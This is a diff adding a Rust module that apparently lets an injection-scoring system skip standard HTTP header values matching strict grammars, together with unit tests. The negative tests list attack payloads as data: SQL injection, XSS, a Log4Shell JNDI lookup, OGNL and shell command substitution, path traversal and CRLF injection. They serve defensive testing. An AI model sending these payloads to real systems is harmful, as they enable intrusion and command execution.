@@ -1,0 +1,208 @@
+//! Standard request headers whose well-formed values cannot carry an injection.
+//!
+//! Every request header is scored (`inspect_other_headers`), and a current SDK sends several
+//! whose values are never plain words: `Accept: application/json`, `If-None-Match: W/"5f3c"`,
+//! `Prefer: return=minimal`, `Accept-Language: en-US,en;q=0.9`. Their grammars (RFC 9110
+//! media ranges, entity tags and language ranges, RFC 7240 preferences, RFC 9111 cache
+//! directives) leave no room for a payload when the value keeps to a strict subset of them:
+//! tokens of letters, digits and `- . _ +` (`*` where a wildcard is allowed), an entity tag's
+//! opaque part of base64 and hex characters, parameters `name=token` whose name starts with a
+//! letter. Anything a payload needs (a quote inside a token, a bracket, `<`, `$`, `%`, `\`, `'`,
+//! a space inside a token, `..`, `//`) falls outside and the value is scored as usual. With
+//! `skip_inert_values` (on by default) such a value is left out like an inert one
+//! ([`super::is_inert`]); the model still learns from every value in training.
+
+/// Longest header value read by these grammars, in bytes.
+const MAX_BYTES: usize = 512;
+/// Most list elements read.
+const MAX_ELEMENTS: usize = 32;
+
+/// Whether `raw`, the value of request header `name` (lower-case), is a well-formed value of
+/// one of the headers above in the strict subset of its grammar (module documentation).
+pub fn header_is_inert(name: &str, raw: &str) -> bool {
+    let element: fn(&str) -> bool = match name {
+        "accept" | "content-type" => media_range,
+        "if-none-match" | "if-match" => entity_tag,
+        "accept-language" | "content-language" => language_range,
+        "prefer" | "cache-control" | "pragma" => directive,
+        _ => return false,
+    };
+    if raw.is_empty() || raw.len() > MAX_BYTES {
+        return false;
+    }
+    let mut n = 0;
+    for item in raw.split(',') {
+        n += 1;
+        let item = item.trim_matches(is_ows);
+        if n > MAX_ELEMENTS || item.is_empty() || !element(item) {
+            return false;
+        }
+    }
+    true
+}
+
+fn is_ows(c: char) -> bool {
+    c == ' ' || c == '\t'
+}
+
+/// `a-z A-Z 0-9 - . _ +`, at least one byte, no `..`.
+fn token(s: &str) -> bool {
+    !s.is_empty()
+        && !s.contains("..")
+        && s.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'+'))
+}
+
+/// `;`-separated parameters after the first part: `name=token` or `name="token"`, the name
+/// starting with a letter.
+fn params<'a>(mut parts: impl Iterator<Item = &'a str>) -> bool {
+    parts.all(|p| {
+        let Some((k, v)) = p.trim_matches(is_ows).split_once('=') else {
+            return false;
+        };
+        let v = v
+            .strip_prefix('"')
+            .and_then(|v| v.strip_suffix('"'))
+            .unwrap_or(v);
+        k.bytes().next().is_some_and(|b| b.is_ascii_alphabetic()) && token(k) && token(v)
+    })
+}
+
+/// `type/subtype` (`*/*`, `text/*`) with parameters.
+fn media_range(item: &str) -> bool {
+    let mut parts = item.split(';');
+    let Some((t, sub)) = parts
+        .next()
+        .and_then(|m| m.trim_end_matches(is_ows).split_once('/'))
+    else {
+        return false;
+    };
+    let wild_or_token = |s: &str| s == "*" || token(s);
+    wild_or_token(t) && wild_or_token(sub) && (t != "*" || sub == "*") && params(parts)
+}
+
+/// `*`, `"opaque"` or `W/"opaque"`, the opaque part of `A-Z a-z 0-9 - _ . : + / =`, no `..`
+/// or `//`, at most 128 bytes.
+fn entity_tag(item: &str) -> bool {
+    if item == "*" {
+        return true;
+    }
+    let quoted = item.strip_prefix("W/").unwrap_or(item);
+    let Some(opaque) = quoted.strip_prefix('"').and_then(|q| q.strip_suffix('"')) else {
+        return false;
+    };
+    opaque.len() <= 128
+        && !opaque.contains("..")
+        && !opaque.contains("//")
+        && opaque.bytes().all(|b| {
+            b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b':' | b'+' | b'/' | b'=')
+        })
+}
+
+/// `*` or `en`, `en-US`, `zh-Hant-TW` (subtags of 1-8 letters or digits), with parameters.
+fn language_range(item: &str) -> bool {
+    let mut parts = item.split(';');
+    let Some(range) = parts.next().map(|r| r.trim_end_matches(is_ows)) else {
+        return false;
+    };
+    let subtags_ok = range == "*"
+        || range
+            .split('-')
+            .all(|t| (1..=8).contains(&t.len()) && t.bytes().all(|b| b.is_ascii_alphanumeric()));
+    subtags_ok && params(parts)
+}
+
+/// `token` or `token=token` (`no-cache`, `max-age=0`, `return=minimal`, `wait=10`), with
+/// parameters (`respond-async; wait=5`).
+fn directive(item: &str) -> bool {
+    let mut parts = item.split(';');
+    let Some(first) = parts.next().map(|d| d.trim_end_matches(is_ows)) else {
+        return false;
+    };
+    let ok = match first.split_once('=') {
+        Some((k, v)) => {
+            let v = v
+                .strip_prefix('"')
+                .and_then(|v| v.strip_suffix('"'))
+                .unwrap_or(v);
+            token(k) && token(v)
+        }
+        None => token(first),
+    };
+    ok && params(parts)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_clients_send_is_inert() {
+        for (name, raw) in [
+            ("accept", "application/json"),
+            ("accept", "*/*"),
+            (
+                "accept",
+                "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
+            ),
+            ("accept", "application/vnd.github+json"),
+            ("accept", "application/json, text/plain, */*"),
+            ("content-type", "application/json; charset=utf-8"),
+            ("content-type", "application/x-www-form-urlencoded"),
+            (
+                "content-type",
+                "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
+            ),
+            ("content-type", "text/plain;charset=\"UTF-8\""),
+            ("if-none-match", "W/\"5f3c-1a2b3c4d\""),
+            ("if-none-match", "\"33a64df551425fcc55e4d42a148795d9f25f89d4\""),
+            ("if-none-match", "\"xyzzy\", \"r2d2xxxx\", W/\"c3piozzzz\""),
+            ("if-match", "*"),
+            ("accept-language", "en-US,en;q=0.9"),
+            ("accept-language", "de-CH, fr;q=0.8, *;q=0.5"),
+            ("accept-language", "zh-Hant-TW"),
+            ("prefer", "return=minimal"),
+            ("prefer", "respond-async, wait=10"),
+            ("prefer", "handling=lenient; foo=\"bar\""),
+            ("cache-control", "no-cache"),
+            ("cache-control", "max-age=0, must-revalidate"),
+            ("pragma", "no-cache"),
+        ] {
+            assert!(header_is_inert(name, raw), "{name}: {raw}");
+        }
+    }
+
+    #[test]
+    fn payloads_and_other_headers_are_scored() {
+        for (name, raw) in [
+            // outside every grammar: quotes, brackets, operators, encodings, traversal
+            ("accept", "../../../../etc/passwd"),
+            ("accept", "application/json' OR '1'='1"),
+            ("accept", "text/html<script>alert(1)</script>"),
+            ("accept", "${jndi:ldap://203.0.113.9/a}"),
+            ("accept", "application/json;q=1 union select 1"),
+            ("accept", "a/b; 1=1"),
+            ("accept", "*/json"),
+            ("content-type", "%{(#_='multipart/form-data').(#cmd='id')}"),
+            ("content-type", "application/json; charset=utf-8'"),
+            ("if-none-match", "\"$(id)\""),
+            ("if-none-match", "W/\"../../etc/passwd\""),
+            ("if-none-match", "\"x\" or 1=1"),
+            ("if-none-match", "abc"),
+            ("accept-language", "en-US;q=0.9' AND SLEEP(5)--"),
+            ("accept-language", "en_US"),
+            ("accept-language", "{{7*7}}"),
+            ("prefer", "return=minimal; x=`id`"),
+            ("prefer", "return=<img src=x onerror=alert(1)>"),
+            ("cache-control", "no-cache\r\nSet-Cookie: a=b"),
+            ("cache-control", "max-age=0;;"),
+            // empty, too long, and headers without a grammar here
+            ("accept", ""),
+            ("accept", &"a/b,".repeat(200)),
+            ("x-client-version", "web/4.12.3"),
+            ("user-agent", "application/json"),
+        ] {
+            assert!(!header_is_inert(name, raw), "{name}: {raw}");
+        }
+    }
+}
